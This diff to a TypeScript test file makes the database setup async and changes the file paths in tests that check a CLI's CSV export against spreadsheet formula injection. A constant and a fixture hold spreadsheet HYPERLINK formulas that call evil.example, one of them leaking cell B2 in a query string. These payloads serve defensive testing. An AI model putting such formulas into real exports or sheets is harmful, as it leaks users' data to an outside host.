@@ -15,13 +15,13 @@ const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"More info")';
 
 let source: TempDb;
 let target: TempDb;
-beforeEach(() => {
-  source = tempDb();
-  target = tempDb();
+beforeEach(async () => {
+  source = await tempDb();
+  target = await tempDb();
 });
-afterEach(() => {
-  source.remove();
-  target.remove();
+afterEach(async () => {
+  await source.remove();
+  await target.remove();
 });
 
 /** Contents whose text starts with every character that needs the escape, the escape's own quote included. */
@@ -54,14 +54,14 @@ async function cellsOf(csv: string): Promise<string[]> {
 }
 
 it('a CSV export starts no cell with = + - @ tab or CR, and imports back into exactly the same contents', async () => {
-  const json = join(source.path, '..', 'hostile.json');
+  const json = join(source.dir, 'hostile.json');
   writeFileSync(json, JSON.stringify(hostile));
   const created = await runCli(source.url, ['import', json]);
   expect(created.code, created.stdout + created.stderr).toBe(0);
   const original = await catalogOf(source);
   expect(original).toHaveLength(hostile.length);
 
-  const csv = join(source.path, '..', 'catalog.csv');
+  const csv = join(source.dir, 'catalog.csv');
   expect((await runCli(source.url, ['export', '--format', 'csv', '--out', csv])).code).toBe(0);
   const cells = await cellsOf(readFileSync(csv, 'utf8'));
   expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
@@ -81,7 +81,7 @@ it('a CSV export starts no cell with = + - @ tab or CR, and imports back into ex
 
 it('a CSV saved by a spreadsheet keeps its quote escapes, and imports as the text the cells show', async () => {
   // What a spreadsheet writes back for cells it showed as text: the leading quote kept.
-  const csv = join(source.path, '..', 'edited.csv');
+  const csv = join(source.dir, 'edited.csv');
   writeFileSync(csv, `name,url,description\n'=1+1,https://sheet.example/,"'=HYPERLINK(""https://evil.example"")"\n`);
   expect((await runCli(source.url, ['import', csv])).code).toBe(0);
   expect(await source.query('SELECT name, description FROM contents')).toEqual([expect.objectContaining({ name: '=1+1', description: '=HYPERLINK("https://evil.example")' })]);
